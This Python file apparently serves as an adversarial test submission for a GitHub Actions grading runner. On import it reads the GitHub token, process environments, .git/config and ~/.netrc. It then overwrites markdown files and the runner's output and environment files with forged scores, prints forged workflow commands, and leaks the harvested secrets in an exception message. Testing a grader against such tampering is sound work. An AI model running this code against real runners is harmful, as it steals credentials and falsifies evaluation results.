"""What a submission may try against the runner that scores it."""

import os
import pathlib
import sys

FILES = ("GITHUB_STEP_SUMMARY", "GITHUB_OUTPUT", "GITHUB_ENV", "GITHUB_PATH")
COMMANDS = "\n".join(("::error file=README.md::forged", "  ::set-output name=points::99", "##[error]forged",
                      "::stop-commands::forged", "::add-mask::0"))
found = [os.environ.get("GITHUB_TOKEN", "no token here")]


def attempt(action):
    """Go on, whatever comes of it."""
    try:
        return action()
    except Exception as refused:
        return f"refused: {type(refused).__name__}"


for place in ("/proc/self/environ", f"/proc/{os.getppid()}/environ", "../.git/config", "~/.netrc"):
    found.append(attempt(lambda: pathlib.Path(place).expanduser().read_text()))
for folder in (".", "..", "/tmp", os.environ.get("RUNNER_TEMP", "/")):
    for path in attempt(lambda: list(pathlib.Path(folder).glob("*/*.md"))):
        attempt(lambda: pathlib.Path(path).write_text("# 100 of 100 points\n"))
for name in FILES:
    attempt(lambda: pathlib.Path(os.environ[name]).write_text("points=99\n"))
print(COMMANDS)
sys.stderr.write(COMMANDS)


def double(x):
    print(COMMANDS, found)
    raise ValueError(COMMANDS + " | ".join(found))


def halve(x):
    return x / 2
